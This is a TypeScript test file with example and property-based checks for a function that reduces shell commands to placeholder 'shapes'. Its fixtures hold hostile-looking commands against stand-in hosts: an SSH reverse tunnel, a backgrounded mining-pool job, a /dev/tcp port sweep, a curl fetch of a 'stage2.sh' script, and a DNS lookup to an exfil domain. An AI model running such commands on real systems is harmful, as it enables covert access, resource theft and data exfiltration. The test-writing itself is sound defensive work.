import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { commandShape, FILE } from '../../../src/core/tools/command-shape.ts';

describe('the shape of a command', () => {
  it.each([
    [
      'ssh -fN -p 443 -R 0.0.0.0:2222:localhost:22 ops@203.0.113.77',
      'ssh -fN -p <n> -R <host>:<n>:<host>:<n> <user>@<host>',
    ],
    [
      'nohup ./hashbench --algo kawpow -o stratum+tcp://pool.tidepool.example:3333 -u rollout.w28 -p x > /tmp/hb.log 2>&1 &',
      'nohup hashbench --algo kawpow -o stratum+tcp://<host> -u <host> -p x > <path> <n>>&<n> &',
    ],
    [
      'for h in 10.20.8.11 10.20.8.12 10.20.8.13; do timeout 1 bash -c "</dev/tcp/$h/6379" && echo $h; done',
      'for h in <host>...; do timeout <n> bash -c "</dev/tcp/<host>/<n>" && echo $h; done',
    ],
    [
      'curl -s -m 5 -x http://10.77.0.3:3128 http://relay.example/stage2.sh | head -2',
      'curl -s -m <n> -x http://<host> http://<host> | head -<n>',
    ],
    ['dig +short 4f2a.data.exfil.example @192.0.2.53', 'dig +short <host> @<host>'],
    ['python3 /repo/scan.py --out results.json 2001:db8::5', 'python<n> <path> --out <path> <host>'],
    ['kill 1234; cat   /var/log/x\n', 'kill <n>; cat <path>'],
    [
      'docker rm 3f2a90c1d2e4 && git checkout 9fceb02d0ae598e95dc970b74767f19372d61af8',
      'docker rm <id> && git checkout <id>',
    ],
    ['', ''],
  ])('%s', (command, shape) => {
    expect(commandShape(command)).toBe(shape);
  });

  it('tells acts apart that differ in more than their targets', () => {
    const shapes = [
      'curl http://192.0.2.1/',
      'wget http://192.0.2.1/',
      'curl -k http://192.0.2.1/',
      'curl https://192.0.2.1/',
    ];
    expect(new Set(shapes.map(commandShape)).size).toBe(4);
  });
});

describe('laws', () => {
  // A name that ends as a file does, as `example.sh`, is taken for one.
  const domain = fc.domain().filter((name) => !FILE.test(name));
  const host = fc.oneof(fc.ipV4(), domain);
  const number = fc.integer({ min: 0, max: 65_535 });
  const path = fc.stringMatching(/^\/[a-z]{1,8}\/[a-z0-9]{1,8}$/).filter((text) => !text.startsWith('/dev/'));

  it('other targets leave it as it is', () => {
    const act = fc.tuple(host, number, path);
    const shapeOf = ([where, port, file]: [string, number, string]): string =>
      commandShape(`timeout ${port} curl -o ${file} http://${where}:${port}/x${port} && nc ${where} ${port}`);
    fc.assert(
      fc.property(act, act, (a, b) => {
        expect(shapeOf(a)).toBe(shapeOf(b));
      }),
    );
  });

  it('the shape of a shape is itself, and no digit is left', () => {
    const word = fc.oneof(
      host,
      number.map(String),
      path,
      fc.constantFrom('curl', '-x', '|', '&&', '"$h"', '>', 'ops@', 'http://', ';'),
    );
    fc.assert(
      fc.property(fc.array(word, { maxLength: 12 }), (words) => {
        const shape = commandShape(words.join(' '));
        expect(commandShape(shape)).toBe(shape);
        expect(shape).not.toMatch(/\d/);
      }),
      { numRuns: 500 },
    );
  });

  it('is bounded', () => {
    expect(commandShape('x'.repeat(1_000_000)).length).toBeLessThanOrEqual(512);
  });
});
